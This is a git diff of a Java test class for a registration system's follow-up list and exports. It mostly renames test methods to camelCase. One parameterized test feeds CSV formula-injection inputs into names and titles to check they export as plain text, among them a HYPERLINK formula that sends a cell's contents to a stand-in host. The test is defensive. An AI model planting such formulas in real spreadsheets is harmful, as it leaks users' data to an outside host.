@@ -59,7 +59,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void each_request_is_one_line_with_its_state_and_rank() {
+    void eachRequestIsOneLineWithItsStateAndRank() {
         var lines = page(FollowUpFilter.of(Show.ALL));
 
         assertThat(lines).extracting(FollowUpLine::state).containsExactly(RegistrationState.WAITING, RegistrationState.CONFIRMED);
@@ -70,7 +70,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void words_find_names_and_titles_whatever_their_accents_and_order() {
+    void wordsFindNamesAndTitlesWhateverTheirAccentsAndOrder() {
         assertThat(page(words("elodie amina"))).hasSize(1);
         assertThat(page(words("hondt"))).hasSize(1);
         assertThat(page(words("CUISINE"))).hasSize(2);
@@ -78,7 +78,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void a_week_and_an_activity_narrow_the_list() {
+    void aWeekAndAnActivityNarrowTheList() {
         var now = clock.instant();
         var soon = new FollowUpFilter(Show.ALL, group.activity(), now, now.plus(Duration.ofDays(7)), "");
         var later = new FollowUpFilter(Show.ALL, group.activity(), now, now.plus(Duration.ofDays(21)), "");
@@ -88,7 +88,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void what_was_cancelled_is_found_by_its_dates_among_what_has_ended_and_in_the_export() {
+    void whatWasCancelledIsFoundByItsDatesAmongWhatHasEndedAndInTheExport() {
         var hers = as(first, () -> registrations.mine()).getFirst().id();
         as(first, () -> registrations.cancel(Set.of(hers)));
         var from = clock.instant().plus(Duration.ofDays(13));
@@ -101,7 +101,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void who_has_to_be_called_for_a_cancelled_date_is_to_do_in_the_week_of_that_date() {
+    void whoHasToBeCalledForACancelledDateIsToDoInTheWeekOfThatDate() {
         asStaff(Role.ANIMATOR, () -> schedule.cancelSessions(group.id(), group.session(), 0, SessionChange.Reach.ONE, "Travaux"));
 
         assertThat(page(week(Show.TO_DO, clock.instant().plus(Duration.ofDays(13))))).hasSize(2);
@@ -112,7 +112,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void who_has_to_be_called_is_to_do_today() {
+    void whoHasToBeCalledIsToDoToday() {
         var hers = as(first, () -> registrations.mine()).getFirst().id();
         as(first, () -> registrations.cancel(Set.of(hers)));
 
@@ -122,7 +122,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void an_export_has_a_line_for_each_person_at_each_session() {
+    void anExportHasALineForEachPersonAtEachSession() {
         var series = town.group(centre).series(2).stands();
         var pair = town.family(centre).named("Petit").adult("Karim").lives();
         register(pair, series, pair.persons(), PartyRule.WHO_CAN);
@@ -139,7 +139,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void an_export_has_no_line_for_a_cancelled_date_of_a_series_that_goes_on_and_none_outside_the_period() {
+    void anExportHasNoLineForACancelledDateOfASeriesThatGoesOnAndNoneOutsideThePeriod() {
         var series = town.group(centre).series(3).stands();
         one(town.family(centre).named("Petit").lives(), series);
         asStaff(Role.ANIMATOR, () -> schedule.cancelSessions(series.id(), series.session(), 0, SessionChange.Reach.ONE, "Travaux"));
@@ -151,7 +151,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void who_cancelled_and_came_all_the_same_in_a_new_registration_is_present_on_the_line_of_that_one() {
+    void whoCancelledAndCameAllTheSameInANewRegistrationIsPresentOnTheLineOfThatOne() {
         var open = town.group(centre).places(5).stands();
         var family = town.family(centre).named("Petit").lives();
         var before = one(family, open).registration();
@@ -171,7 +171,7 @@ class FollowUpTest extends RegistrationsTest {
     /** As they come into a file: by an activity's title, and by what was in the database before names had rules. */
     @ParameterizedTest
     @ValueSource(strings = {"=HYPERLINK(\"http://x.example/?\"&A1;\"Cliquez\")", "+33 6 12", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1"})
-    void a_title_and_a_name_like_a_formula_are_text_in_both_files(String formula) {
+    void aTitleAndANameLikeAFormulaAreTextInBothFiles(String formula) {
         database.sql("UPDATE activity SET title = :formula WHERE id = :id").param("formula", formula).param("id", group.activity()).update();
         database.sql("UPDATE person SET first_name = :formula, last_name = :formula WHERE household_id = :id").param("formula", formula).param("id", first.id()).update();
 
@@ -189,7 +189,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void a_phone_keeps_its_zero_in_both_files_and_words_their_accents() {
+    void aPhoneKeepsItsZeroInBothFilesAndWordsTheirAccents() {
         var csv = csv(FollowUpFilter.of(Show.ALL));
         assertThat(csv).startsWith("\uFEFF\"Foyer\";");
         assertThat(cells(csv)).hasSize(3);
@@ -258,7 +258,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void an_animator_sees_the_list_without_the_export_and_a_resident_sees_neither() {
+    void anAnimatorSeesTheListWithoutTheExportAndAResidentSeesNeither() {
         assertThat(asStaff(Role.ANIMATOR, () -> followUp.count(FollowUpFilter.of(Show.ALL)))).isEqualTo(2);
         assertThatThrownBy(() -> asStaff(Role.ANIMATOR, () -> {
             followUp.exportCsv(FollowUpFilter.of(Show.ALL), new ByteArrayOutputStream());
@@ -268,7 +268,7 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void another_centre_sees_nothing_of_it() {
+    void anotherCentreSeesNothingOfIt() {
         centre = town.centre();
 
         assertThat(page(FollowUpFilter.of(Show.ALL))).isEmpty();
